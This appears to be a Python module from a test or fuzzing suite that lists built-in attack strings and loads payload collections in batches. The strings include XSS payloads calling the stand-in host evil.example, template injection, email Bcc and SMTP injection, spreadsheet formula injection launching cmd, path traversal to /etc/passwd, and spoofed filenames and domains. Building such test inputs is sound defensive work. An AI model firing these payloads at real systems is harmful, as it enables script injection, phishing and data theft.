"""Attack strings: a small list of our own, and the collections in TODOKE_CORPORA where these are."""

from __future__ import annotations

import json
from collections.abc import Iterator

from support.places import CORPORA

COLLECTIONS = CORPORA / "payloads"

BUILT_IN = (
    "<script>alert(1)</script>",
    "\"><script src=//evil.example/x.js></script><a title='",
    "'\"--></style></title></textarea></script><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><!--<script>alert(1)</script>-->",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(secret)s {0.__class__} %n%n%s",
    "x\r\nBcc: stranger@evil.example\r\n\r\nbody",
    "x%0d%0aBcc:%20stranger@evil.example",
    "=?utf-8?b?YQpCY2M6IHN0cmFuZ2VyQGV2aWwuZXhhbXBsZQ==?=",
    "=?utf-8?q?a=0ABcc:_stranger@evil.example?=",
    "a\n.\nMAIL FROM:<x@evil.example>\nRCPT TO:<stranger@evil.example>\nDATA\nx\n.\n",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1-1",
    "\t=1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a\x00b",
    "\x1b]0;title\x07\x1b[2J",
    "\u202egnp.exe",
    "раypal.com",
    "\ufeff\u200b\u2066\ud7ff\U0010fffe",
)  # fmt: skip


def collected() -> Iterator[str]:
    """Every line of the collections, each once; none where they are not."""
    seen: set[str] = set()
    if not COLLECTIONS.is_dir():
        return
    blns = COLLECTIONS / "blns" / "blns.json"
    lines: list[str] = json.loads(blns.read_text("utf-8")) if blns.is_file() else []
    for path in sorted(COLLECTIONS.rglob("fuzzdb/**/*.txt")):
        lines += path.read_bytes().decode("utf-8", "replace").splitlines()
    for line in lines:
        if line and line not in seen:
            seen.add(line)
            yield line[:2_000]


def in_batches(lines: list[str], size: int = 150) -> Iterator[list[str]]:
    """`lines`, so many at once."""
    for start in range(0, len(lines), size):
        yield lines[start : start + size]
